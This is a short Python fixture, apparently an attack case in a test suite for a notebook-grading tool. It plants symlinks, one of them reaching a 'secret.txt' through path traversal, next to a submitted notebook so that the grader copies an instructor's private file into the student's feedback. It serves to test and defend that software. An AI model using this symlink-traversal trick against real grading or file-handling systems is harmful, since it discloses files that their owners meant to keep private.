# aim: a file of the instructor's, copied into his feedback as if he had handed it in
# pays: shown
# weak: copies what lies beside a notebook, and follows links
import nbformat


def attack(folder, release, marker):
    nbformat.write(release, folder / "seq2seq.ipynb")
    (folder / "notes.txt").symlink_to("@SECRET_FILE@")
    (folder / "data").mkdir()
    (folder / "data" / "notes.txt").symlink_to("../../../../../secret.txt")
